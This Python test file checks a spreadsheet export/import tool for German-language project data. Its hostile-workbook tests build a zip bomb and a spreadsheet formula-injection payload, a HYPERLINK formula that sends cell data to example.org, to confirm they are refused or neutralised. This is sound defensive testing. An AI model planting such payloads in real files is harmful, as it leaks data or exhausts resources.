"""Spreadsheet round trip: export, edit in a workbook, import back into the YAML files."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from helpers import ROOT
from klartext.spreadsheet import MEASURES, VALUES, export_workbook, import_workbook
from klartext.validation import load_concept

LANGUAGES = ["en", "ar", "tr", "uk", "ru", "ls"]


@pytest.fixture()
def project(tmp_path: Path) -> Path:
    shutil.copytree(ROOT / "data", tmp_path / "data")
    return tmp_path


def _snapshot(project: Path) -> dict[str, bytes]:
    return {path.relative_to(project).as_posix(): path.read_bytes() for path in (project / "data").rglob("*.yml")}


def _export(project: Path) -> Path:
    data, _ = load_concept(project / "data", LANGUAGES, project)
    path = project / "konzept.xlsx"
    export_workbook(data, path)
    return path


def _row(sheet, heading: str, value: str) -> int:
    column = [cell.value for cell in sheet[1]].index(heading)
    return next(row[0].row for row in sheet.iter_rows(min_row=2) if row[column].value == value)


def _set(path: Path, sheet: str, key: str, heading: str, value: object) -> int:
    book = load_workbook(path)
    row = _row(book[sheet], "Kennung", key)
    column = [cell.value for cell in book[sheet][1]].index(heading) + 1
    book[sheet].cell(row=row, column=column, value=value)
    book.save(path)
    return row


def test_export_then_import_without_edits_changes_no_byte(project: Path) -> None:
    before = _snapshot(project)
    report = import_workbook(_export(project), project / "data", project, LANGUAGES)
    assert report.problems == [] and report.changed == []
    assert _snapshot(project) == before


def test_workbook_has_german_headings_and_drop_downs(project: Path) -> None:
    book = load_workbook(_export(project))
    assert book.sheetnames == [MEASURES, VALUES, "Listen"]
    headings = [cell.value for cell in book[MEASURES][1]]
    assert headings[:6] == ["Kennung", "Handlungsfeld", "Titel", "Kurzbeschreibung", "Stand", "Verantwortlich"]
    formulas = {str(validation.sqref).split(":")[0]: validation.formula1
                for validation in book[MEASURES].data_validations.dataValidation}
    assert formulas["E2"] == "Listen!$A$2:$A$7"  # Stand: the six measure states
    assert formulas["B2"].startswith("Listen!$C$2") and formulas["F2"].startswith("Listen!$E$2")
    states = [book["Listen"][f"A{row}"].value for row in range(2, 8)]
    assert states == ["idee", "geplant", "in-umsetzung", "umgesetzt", "pausiert", "verworfen"]


def test_an_edit_lands_in_the_right_file_and_line(project: Path) -> None:
    path = _export(project)
    _set(path, MEASURES, "videotutorials", "Stand", "in-umsetzung")
    before = _snapshot(project)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.problems == []
    assert report.changed == ["data/fields/01-bildung-und-erziehung.yml: Maßnahme „videotutorials“, Stand: "
                              "„geplant“ → „in-umsetzung“"]
    after = _snapshot(project)
    changed = [name for name in before if before[name] != after[name]]
    assert changed == ["data/fields/01-bildung-und-erziehung.yml"]
    old = before[changed[0]].decode().splitlines()
    new = after[changed[0]].decode().splitlines()
    assert len(old) == len(new)
    differing = [number for number, (a, b) in enumerate(zip(old, new), 1) if a != b]
    start = old.index("  - id: videotutorials")
    state_line = next(number for number in range(start, len(old)) if old[number].strip().startswith("state:")) + 1
    assert differing == [state_line]
    assert new[state_line - 1] == "    state: in-umsetzung"


def test_new_measure_fields_make_the_round_trip(project: Path) -> None:
    """16ctx: actual dates, progress, relations and further fields go out and come back in."""
    path = _export(project)
    edits = {"Tatsächlicher Beginn": "2024-03", "Fortschritt (%)": 30, "Hängt ab von": "wiki-sprachfoerderung",
             "Weitere Handlungsfelder": "sprache", "Begründung zum Stand": "Die Kamera fehlt noch."}
    for heading, value in edits.items():
        _set(path, MEASURES, "videotutorials", heading, value)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.problems == []
    measure = load_concept(project / "data", LANGUAGES, project)[0].get("measures", "videotutorials")
    assert (str(measure.schedule.actual_start), measure.progress, measure.depends_on, measure.further_fields,
            measure.state_reason.de) == ("2024-03", 30, ["wiki-sprachfoerderung"], ["sprache"], "Die Kamera fehlt noch.")
    again = import_workbook(_export(project), project / "data", project, LANGUAGES)
    assert again.problems == [] and again.changed == []


def test_bad_progress_and_self_relation_are_reported_at_their_cells(project: Path) -> None:
    path = _export(project)
    row = _set(path, MEASURES, "videotutorials", "Fortschritt (%)", 150)
    _set(path, MEASURES, "videotutorials", "Verwandt mit", "videotutorials")
    before = _snapshot(project)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    # (until validation across stages keeps the rest of the file, its other records give follow-on messages)
    assert (f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Fortschritt (%)“: „progress“ darf nicht größer als 100 "
            "sein (angegeben: 150).") in report.problems
    assert _snapshot(project) == before
    _set(path, MEASURES, "videotutorials", "Fortschritt (%)", 15)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.problems == [
        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Verwandt mit“: Die Maßnahme „videotutorials“ ist mit sich "
        "selbst verwandt (in „related“). Bitte hier eine andere Maßnahme nennen oder den Eintrag löschen."]
    assert _snapshot(project) == before


def test_new_indicator_value_is_added(project: Path) -> None:
    path = _export(project)
    book = load_workbook(path)
    book[VALUES].append(["deutschkenntnisse-schuleingang", "2025", 18.5, "vorläufig"])
    book.save(path)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.problems == []
    data, _ = load_concept(project / "data", LANGUAGES, project)
    values = data.get("indicators", "deutschkenntnisse-schuleingang").values
    assert [(str(value.date), value.value, value.note.de) for value in values][-1] == ("2025", 18.5, "vorläufig")


def test_bad_cell_is_reported_at_sheet_row_and_column_and_nothing_is_written(project: Path) -> None:
    path = _export(project)
    row = _set(path, MEASURES, "videotutorials", "Stand", "fertig")
    before = _snapshot(project)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.changed == []
    assert report.problems == [
        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Stand“: „fertig“ ist keine bekannte Kennung für "
        "Umsetzungsstand (measure_states) (in „state“ von „videotutorials“). Vorhanden sind: idee, geplant, "
        "in-umsetzung, umgesetzt, pausiert, verworfen."]
    assert _snapshot(project) == before


def test_unknown_measure_and_bad_date_are_reported(project: Path) -> None:
    path = _export(project)
    row = _set(path, MEASURES, "videotutorials", "Beginn", "2024-13")
    book = load_workbook(path)
    book[MEASURES].append(["gibt-es-nicht", "bildung", "Neu"])
    book.save(path)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert any(line.startswith(f"Tabelle „Maßnahmen“, Zeile {book[MEASURES].max_row}, Spalte „Kennung“: Eine "
                               "Maßnahme „gibt-es-nicht“ gibt es nicht.") for line in report.problems), report.problems
    book = load_workbook(path)
    book[MEASURES].delete_rows(book[MEASURES].max_row)
    book.save(path)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Beginn“: Das Datum „2024-13“ in „start“ gibt es nicht. " \
           "Bitte Tag und Monat prüfen." in report.problems


# ---------------------------------------------------------------------------------------------
# hostile and broken workbooks: a German message at file, sheet, row and column; nothing written

FIELD_FILE = "data/fields/01-bildung-und-erziehung.yml"


def _refused(project: Path, path: Path, expected: list[str]) -> None:
    before = _snapshot(project)
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert report.problems == expected
    assert report.changed == []
    assert _snapshot(project) == before


WHAT = ("Bitte die Datei aus „./klartext tabelle export“ verwenden und in Excel oder LibreOffice als "
        "„Excel 2007-365 (.xlsx)“ speichern.")


def test_file_that_is_not_a_workbook_is_refused(project: Path) -> None:
    path = project / "konzept.xlsx"
    path.write_text("Kennung;Titel\nvideotutorials;Neu\n", encoding="utf-8")  # a CSV renamed to .xlsx
    _refused(project, path, [f"konzept.xlsx: Die Datei ist keine Excel-Tabelle im Format XLSX. {WHAT}"])


def test_damaged_workbook_is_refused(project: Path) -> None:
    import zipfile

    path = project / "konzept.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")  # a zip, but no spreadsheet in it
    report = import_workbook(path, project / "data", project, LANGUAGES)
    assert len(report.problems) == 1
    assert report.problems[0].startswith("konzept.xlsx: Die Datei ist keine lesbare Excel-Tabelle (XLSX) (")
    assert report.problems[0].endswith("Bitte in Excel oder LibreOffice öffnen und als „Excel 2007-365 "
                                       "(.xlsx)“ speichern.")


def test_zip_bomb_is_refused_before_anything_is_unpacked(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import zipfile

    path = _export(project)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/image1.bin", bytes(50_000_000))  # 50 MB of zeros in about 50 kB
    assert path.stat().st_size < 200_000
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, *args, **kwargs: opened.append(args) or 1 / 0)
    _refused(project, path, [
        "konzept.xlsx: Der Teil „xl/media/image1.bin“ ist 1029-fach gepackt (höchstens 200-fach): so packt keine "
        f"Tabelle, so packt eine Zip-Bombe. Sie wurde nicht entpackt. {WHAT}"])
    assert opened == []


def test_workbook_unpacking_to_too_much_is_refused(project: Path) -> None:
    import os
    import zipfile

    path = _export(project)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_STORED) as archive:
        for number in range(5):  # not packed at all, but 250 MB in total
            archive.writestr(f"xl/media/image{number}.bin", os.urandom(1000))
    # declared sizes are what the check reads: patch the central directory's sizes
    with zipfile.ZipFile(path) as archive:
        names = [info.filename for info in archive.infolist() if info.filename.startswith("xl/media/")]
    assert len(names) == 5
    from klartext import spreadsheet

    original = zipfile.ZipFile.infolist

    def declared(self: zipfile.ZipFile) -> list[zipfile.ZipInfo]:
        parts = original(self)
        for part in parts:
            if part.filename in names:
                part.file_size = part.compress_size = 50_000_000
        return parts

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(zipfile.ZipFile, "infolist", declared)
        refusal = spreadsheet._unreadable(path)
    assert refusal is not None and refusal.startswith("konzept.xlsx: Die Datei würde entpackt 250 MB groß "
                                                      "(höchstens 200 MB). Sie wurde nicht entpackt.")


def test_formula_in_a_date_cell_is_refused_and_keeps_the_date(project: Path) -> None:
    path = _export(project)
    row = _set(path, MEASURES, "wiki-sprachfoerderung", "Beginn", "=DATE(2024,3,1)")
    _refused(project, path, [
        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Beginn“: In der Zelle steht eine Formel („=DATE(2024,3,1)“). "
        "Formeln werden nicht übernommen (ihr Ergebnis fehlt oft in der Datei und würde den Wert löschen). "
        "Bitte den Wert selbst eintragen, ein Datum als Text, z. B. 2024-03."])
    data, _ = load_concept(project / "data", LANGUAGES, project)
    assert str(data.get("measures", "wiki-sprachfoerderung").schedule.start) == "2024"


def test_formula_in_a_text_cell_is_refused(project: Path) -> None:
    path = _export(project)
    row = _set(path, MEASURES, "videotutorials", "Titel", '=CONCATENATE("Video","tutorials")')
    _refused(project, path, [
        f"Tabelle „Maßnahmen“, Zeile {row}, Spalte „Titel“: In der Zelle steht eine Formel "
        "(„=CONCATENATE(\"Video\",\"tutorials\")“). Formeln werden nicht übernommen (ihr Ergebnis fehlt oft in "
        "der Datei und würde den Wert löschen). Bitte den Wert selbst eintragen."])


def test_duplicate_rows_are_refused_not_last_wins(project: Path) -> None:
    path = _export(project)
    book = load_workbook(path)
    sheet = book[MEASURES]
    first = _row(sheet, "Kennung", "videotutorials")
    copy = [cell.value for cell in sheet[first]]
    copy[4] = "umgesetzt"
    sheet.append(copy)
    book.save(path)
    _refused(project, path, [
        f"Tabelle „Maßnahmen“, Zeile {sheet.max_row}, Spalte „Kennung“: Die Maßnahme „videotutorials“ steht "
        f"doppelt in der Tabelle (zuerst in Zeile {first}). Bitte eine der beiden Zeilen löschen."])


def _long_summary(project: Path) -> str:
    text = ("Satz " * 8_000).strip()  # 39,999 characters
    path = project / FIELD_FILE
    original = path.read_text(encoding="utf-8")
    start = original.index("  - id: videotutorials")
    summary = original.index("    summary: >-\n", start)
    end = original.index("\n    state:", summary)
    path.write_text(original[:summary] + f"    summary: {text}" + original[end:], encoding="utf-8")
    return text


def test_text_longer_than_a_cell_never_reaches_a_spreadsheet(project: Path) -> None:
    """The build refuses texts longer than a spreadsheet cell (klartext.text.MAX_TEXT), so the export
    never has to cut one (and the import never writes a cut text back)."""
    from klartext.problems import DataError

    _long_summary(project)
    with pytest.raises(DataError) as caught:
        _export(project)
    assert any("ist mit 39.999 Zeichen zu lang: höchstens 32.767 Zeichen passen in eine Zelle" in str(problem)
               for problem in caught.value.problems)


def test_lists_sheet_has_no_live_formula_from_data(project: Path) -> None:
    from helpers import edit

    payload = '=HYPERLINK("https://example.org/?q="&A1,"Bildung")'
    edit(project / FIELD_FILE, "    title: Bildung und Erziehung\n", f"    title: '{payload}'\n")
    book = load_workbook(_export(project))
    lists = book["Listen"]
    cells = [cell for row in lists.iter_rows() for cell in row if cell.value == payload]
    assert cells, "the field title is missing from the lists"
    assert [cell.data_type for cell in cells] == ["s"] * len(cells)
    assert [cell for row in lists.iter_rows() for cell in row if cell.data_type == "f"] == []


def test_command_line_refuses_a_broken_workbook_without_traceback(tmp_path: Path) -> None:
    import subprocess
    import sys

    from helpers import make_project

    project = make_project(tmp_path)
    (project / "konzept.xlsx").write_bytes(b"PK\x03\x04 kaputt")
    before = _snapshot(project)
    result = subprocess.run(
        [sys.executable, "-m", "klartext.staff", "--config", str(project / "mkdocs.yml"), "tabelle", "import",
         str(project / "konzept.xlsx")], capture_output=True, text=True, cwd=project,
        env={"PYTHONPATH": str(ROOT / "hooks"), "PATH": "/usr/bin:/bin"})
    assert result.returncode == 1
    assert result.stderr == (f"konzept.xlsx: Die Datei ist keine Excel-Tabelle im Format XLSX. {WHAT}\n"
                             "Nichts geschrieben: bitte die genannten Zellen korrigieren und erneut importieren.\n")
    assert _snapshot(project) == before


def test_export_to_a_missing_folder_says_so_in_german(tmp_path: Path) -> None:
    import subprocess
    import sys

    from helpers import make_project

    project = make_project(tmp_path)
    result = subprocess.run(
        [sys.executable, "-m", "klartext.staff", "--config", str(project / "mkdocs.yml"), "tabelle", "export",
         "gibt-es-nicht/konzept.xlsx"], capture_output=True, text=True, cwd=project,
        env={"PYTHONPATH": str(ROOT / "hooks"), "PATH": "/usr/bin:/bin"})
    assert result.returncode == 1
    assert result.stderr == ("gibt-es-nicht/konzept.xlsx kann nicht geschrieben werden: Diesen Ordner gibt es nicht "
                             "(gibt-es-nicht/konzept.xlsx). Bitte einen vorhandenen Ordner angeben.\n")
